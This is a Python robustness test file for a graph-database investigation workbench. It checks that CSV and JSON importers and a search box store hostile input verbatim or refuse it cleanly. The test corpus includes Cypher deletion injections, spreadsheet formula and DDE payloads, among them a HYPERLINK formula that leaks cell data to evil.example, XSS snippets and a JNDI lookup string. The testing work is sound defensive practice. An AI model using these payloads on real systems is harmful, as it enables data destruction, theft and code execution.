"""Hostile input at every importer and at the search box: clear errors or verbatim storage, never a crash.

Each case ends in one of two ways. Either the ingest succeeds and every hostile string is in the
store exactly as given (less the surrounding whitespace the import contract strips from text cells),
or it raises :class:`InputError` naming the file, row and column, and the store is unchanged. Any
other exception fails the test. Hypothesis runs few examples per test (the file stays under a minute)
on top of a fixed corpus of the strings investigators' files really carry.
"""

from __future__ import annotations

import csv
import io
import json
import uuid
from pathlib import Path
from typing import Any, Callable, Iterator

import pytest

from workbench.store.connect import scratch_database
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from workbench.analysis import explore, overview
from workbench.errors import InputError
from workbench.store.gateway import Gateway
from workbench.ingest import ingest_path
from workbench.settings import Settings

HUGE = "Ω" + "x" * (1024 * 1024) + "Ω"  # a 1 MB cell
NASTY = [
    "'}) MATCH (n) DETACH DELETE n //",
    '"}) MATCH (n) DETACH DELETE n //',
    "$key`) CALL { MATCH (n) DELETE n } //",
    '=HYPERLINK("http://evil.example/?leak="&A1, "click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "<script>alert('xss')</script>",
    '<img src=x onerror="alert(1)">',
    "Robert\x00Tables",
    "tab\tnew\nline\r\ncarriage",
    "Química Ñandú — 江苏华信 – ‮reversed‬",
    "\u2028line separator\u2029paragraph\x85next line",
    "emoji 🧪☠️ and zero\u200bwidth",
    "a;b;c",
    "back\\slash \\' \\\" \\u0041",
    "%s %n %x {0} {{}} ${jndi:ldap://x}",
]
FILE_KINDS = ("manifests", "seizures", "companies", "pen_notifications", "watchlist", "air_waybills", "parcels",
              "payments", "ftm")


def bounded(examples: int) -> settings:
    """Few, reproducible examples: each one is a real ingest or search against the embedded store."""
    return settings(max_examples=examples, deadline=None, derandomize=True, database=None,
                    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                                           HealthCheck.data_too_large])


# Text strategies: anything Unicode (NUL and control characters included) and mixes of the corpus.
# The 1 MB cell has tests of its own (Hypothesis would print all of it on a failure).
any_text = st.text(st.characters(codec="utf-8"), max_size=200)
hostile = st.one_of(any_text, st.sampled_from(NASTY), st.lists(st.sampled_from(NASTY), min_size=2, max_size=4).map(" ".join))


def rows_for(kind: str, text: str) -> list[dict[str, Any]]:
    """One row of ``kind`` with ``text`` in its name and free-text columns and fresh identifiers elsewhere."""
    uid = uuid.uuid4().hex[:12]
    serial = int(uid[:6], 16) % 10**7  # an air waybill serial; its check digit is serial % 7
    return {
        "manifests": [{"bill_of_lading": f"BL-{uid}", "shipper_name": text, "consignee_name": f"Consignee {uid} SA",
                       "goods_description": text, "vessel": text}],
        "seizures": [{"seizure_id": f"S-{uid}", "location": text, "notes": text, "agency": text}],
        "companies": [{"name": text, "country": "MX", "registration_number": f"REG{uid}", "website": text}],
        "pen_notifications": [{"pen_id": f"PEN-{uid}", "exporter_name": text, "importer_name": f"Importer {uid} SA",
                               "substance": text, "point_of_entry": text}],
        "watchlist": [{"id": f"NK-{uid}", "schema": "Company", "name": text, "dataset": text}],
        "air_waybills": [{"master_awb": f"999-{serial:07d}{serial % 7}", "house_awb": f"H-{uid}", "shipper_name": text,
                          "consignee_name": f"Consignee {uid} SA", "departure_airport": "PVG",
                          "arrival_airport": "NLU", "goods_description": text, "airline": text}],
        "parcels": [{"tracking_number": f"T{uid}", "service": "courier", "sender_name": text,
                     "recipient_name": f"Recipient {uid} SA", "declared_content": text, "carrier": text}],
        "payments": [{"payment_id": f"PAY-{uid}", "date": "2024-05-01", "amount": "100", "currency": "USD",
                      "method": "wire", "originator_name": text, "beneficiary_name": f"Beneficiary {uid} SA",
                      "reference": text}],
        "ftm": [{"id": f"ftm-{uid}", "schema": "Company", "properties": {"name": [text], "notes": [text]}}],
    }[kind]


def write_bundle(folder: Path, kind: str, rows: list[dict[str, Any]], encoding: str = "utf-8") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    if kind == "ftm":
        path = folder / "entities.ftm.json"
        path.write_bytes("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows).encode(encoding))
        return path
    path = folder / f"{kind}.csv"
    columns = list(dict.fromkeys(c for r in rows for c in r))
    buffer = io.StringIO(newline="")
    writer = csv.DictWriter(buffer, columns)
    writer.writeheader()
    writer.writerows(rows)
    path.write_bytes(buffer.getvalue().encode(encoding))
    return path


def stored_strings(gateway: Gateway) -> set[str]:
    """Every string the store holds in a node or relationship property, list elements included."""
    found: set[str] = set()
    for statement in ("MATCH (n) RETURN properties(n) AS p", "MATCH ()-[r]->() RETURN properties(r) AS p"):
        result = gateway.read(statement, row_cap=1_000_000).raise_for_status()
        for row in result.data():
            for value in row["p"].values():
                for item in value if isinstance(value, list) else [value]:
                    if isinstance(item, str):
                        found.add(item)
    return found


def counts(gateway: Gateway) -> tuple[dict[str, int], dict[str, int]]:
    return overview.counts_by_label(gateway), overview.counts_by_relationship(gateway)


def ingest_or_clear_error(gateway: Gateway, bundle: Path, expect: list[str]) -> str:
    """Ingest ``bundle``; on success every string in ``expect`` is stored verbatim, on InputError nothing changed."""
    before = counts(gateway)
    try:
        ingest_path(gateway, bundle, rejects_path=bundle.parent / "rejects.csv")
    except InputError as e:
        assert counts(gateway) == before, "a refused ingest changed the store"
        assert e.problems, f"InputError without problems: {e}"
        for problem in e.problems:
            assert problem["file"], problem
        assert str(e).strip()
        return "refused"
    stored = stored_strings(gateway)
    missing = [text[:80] for text in expect if text.strip() and text.strip() not in stored]
    assert not missing, f"not stored verbatim: {missing}"
    return "stored"


@pytest.fixture(scope="module")
def gateway(server_settings: Settings) -> Iterator[Gateway]:
    """One database for the whole file: every case uses fresh keys and compares counts around itself."""
    with scratch_database(server_settings, "robust") as gw:
        yield gw


@pytest.fixture
def workdir(tmp_path: Path) -> Callable[[], Path]:
    made = iter(range(10_000))
    return lambda: tmp_path / f"bundle-{next(made)}"


@pytest.mark.parametrize("kind", FILE_KINDS)
def test_corpus_of_hostile_strings_is_stored_verbatim_or_refused(gateway: Gateway, workdir, kind: str) -> None:
    rows = [row for text in NASTY for row in rows_for(kind, text)]
    bundle = workdir()
    write_bundle(bundle, kind, rows)
    ingest_or_clear_error(gateway, bundle, NASTY)


@pytest.mark.parametrize("kind", FILE_KINDS)
@bounded(10)
@given(text=hostile)
def test_hostile_text_in_every_importer(gateway: Gateway, workdir, kind: str, text: str) -> None:
    bundle = workdir()
    write_bundle(bundle, kind, rows_for(kind, text))
    ingest_or_clear_error(gateway, bundle, [text])


@pytest.mark.parametrize("name", ["manifests.csv", "companies.csv", "watchlist.csv", "entities.ftm.json"])
@bounded(15)
@given(data=st.one_of(st.binary(max_size=3000),
                      st.binary(max_size=300).map(lambda b: b"bill_of_lading,shipper_name,consignee_name\n" + b)))
def test_arbitrary_bytes_give_a_clear_error_or_nothing_unexpected(gateway: Gateway, workdir, name: str,
                                                                  data: bytes) -> None:
    bundle = workdir()
    bundle.mkdir(parents=True)
    (bundle / name).write_bytes(data)
    before = counts(gateway)
    try:
        ingest_path(gateway, bundle, rejects_path=bundle.parent / "rejects.csv")
    except InputError as e:
        assert counts(gateway) == before
        assert e.problems and all(p["file"] == name for p in e.problems), e.problems


@pytest.mark.parametrize("encoding", ["cp1252", "latin-1", "utf-8-sig", "utf-16", "utf-32", "shift_jis"])
def test_files_in_other_encodings(gateway: Gateway, workdir, encoding: str) -> None:
    text = "Química Ñandú Importaciones S.A. de C.V." if encoding != "shift_jis" else "Shipper Co Ltd"
    bundle = workdir()
    write_bundle(bundle, "manifests", rows_for("manifests", text), encoding=encoding)
    ingest_or_clear_error(gateway, bundle, [text])


@pytest.mark.parametrize("depth", [20, 1_000, 100_000])
def test_deeply_nested_json_lines(gateway: Gateway, workdir, depth: int) -> None:
    nested = "[" * depth + '"deep"' + "]" * depth
    line = '{"id": "ftm-deep-%d", "schema": "Company", "properties": {"name": ["Deep Co"], "notes": %s}}' % (
        depth, nested)
    bundle = workdir()
    bundle.mkdir(parents=True)
    (bundle / "entities.ftm.json").write_text(line + "\n")
    before = counts(gateway)
    try:
        ingest_path(gateway, bundle, rejects_path=bundle.parent / "rejects.csv")
    except InputError as e:
        assert counts(gateway) == before
        assert any(p["row"] == 1 for p in e.problems), e.problems


@pytest.mark.parametrize("kind", FILE_KINDS)
def test_a_1mb_cell_in_every_importer(gateway: Gateway, workdir, kind: str) -> None:
    bundle = workdir()
    write_bundle(bundle, kind, rows_for(kind, HUGE))
    try:
        ingest_or_clear_error(gateway, bundle, [HUGE])
    except AssertionError as e:
        raise AssertionError(str(e)[:500]) from None  # not a megabyte of 'x' in the report


# --- the search box -----------------------------------------------------------------------------------------

def repr_short(value: object) -> str:
    text = repr(value)
    return text if len(text) < 40 else f"{text[:30]}...({len(text)} chars)"


def search_or_clear_error(gateway: Gateway, text: str) -> None:
    before = counts(gateway)
    try:
        hits = explore.search(gateway, text)
    except InputError as e:
        assert str(e).strip()
    else:
        assert isinstance(hits, list)
        assert all(isinstance(h.get("key"), str) for h in hits)
    assert counts(gateway) == before


@pytest.fixture(scope="module")
def searchable(gateway: Gateway, tmp_path_factory: pytest.TempPathFactory) -> Gateway:
    bundle = tmp_path_factory.mktemp("searchable")
    write_bundle(bundle, "manifests", [row for text in ("Alpha Fine Chemical Co Ltd", "Quimica Delta SA")
                                       for row in rows_for("manifests", text)])
    ingest_path(gateway, bundle)
    return gateway


@pytest.mark.parametrize("text", NASTY + ["", "   ", "*", "?", "~", "\\", "AND OR NOT", "a" * 5000, "((((", '"',
                                          "title:x", "name:*", "[a TO z]", "^3", "&&||!", HUGE], ids=repr_short)
def test_search_box_corpus(searchable: Gateway, text: str) -> None:
    search_or_clear_error(searchable, text)


@bounded(100)
@given(text=st.one_of(st.text(max_size=300), st.sampled_from(NASTY)))
def test_search_box_never_crashes(searchable: Gateway, text: str) -> None:
    search_or_clear_error(searchable, text)


# --- CSV structure and header collisions (issue 14 #3, #5): a damaged file is refused, never partly read ---------

MUTATIONS = ("none", "short_row", "long_row", "open_quote", "stray_quote", "duplicate_header", "case_header")
cell_text = st.text(st.characters(codec="utf-8", exclude_characters='",;\r\n\x00'), min_size=1, max_size=20)


def shipments(gateway: Gateway) -> int:
    return int(gateway.read("MATCH (s:Shipment) RETURN count(s) AS n").raise_for_status().data()[0]["n"])


@bounded(14)
@given(names=st.lists(cell_text.filter(lambda s: s.strip()), min_size=2, max_size=5),
       mutation=st.sampled_from(MUTATIONS), where=st.integers(min_value=0, max_value=100))
def test_damaged_csv_structure_is_refused_and_intact_csv_is_stored_whole(
        gateway: Gateway, workdir, names: list[str], mutation: str, where: int) -> None:
    uid = uuid.uuid4().hex[:10]
    header = ["bill_of_lading", "shipper_name", "consignee_name", "weight_kg"]
    rows = [[f"BL-{uid}-{i}", f"{name} Ltd", f"Consignee {uid} SA", str(i + 1)] for i, name in enumerate(names)]
    target = where % len(rows)
    if mutation == "short_row":
        rows[target] = rows[target][:2]
    elif mutation == "long_row":
        rows[target] = rows[target] + ["surplus"]
    elif mutation == "duplicate_header":
        header[3] = "shipper_name"
    elif mutation == "case_header":
        header[3] = "Shipper Name"
    lines = [",".join(header)] + [",".join(row) for row in rows]
    if mutation == "open_quote":
        cells = lines[target + 1].split(",")
        cells[where % len(cells)] = '"' + cells[where % len(cells)]
        lines[target + 1] = ",".join(cells)
    elif mutation == "stray_quote":
        lines[target + 1] = lines[target + 1].replace(",", ',"x"y', 1)
    bundle = workdir()
    bundle.mkdir(parents=True)
    (bundle / "manifests.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    before, stored = counts(gateway), shipments(gateway)
    try:
        ingest_path(gateway, bundle, rejects_path=bundle.parent / "rejects.csv")
    except InputError as e:
        assert mutation != "none", e
        assert counts(gateway) == before
        assert e.problems and all(p["file"] == "manifests.csv" for p in e.problems)
        text = str(e)
        assert (f"row {target + 2}" in text or "header" in text), text
        return
    assert mutation == "none", f"{mutation} was not refused"
    assert shipments(gateway) == stored + len(rows)  # every row, none swallowed
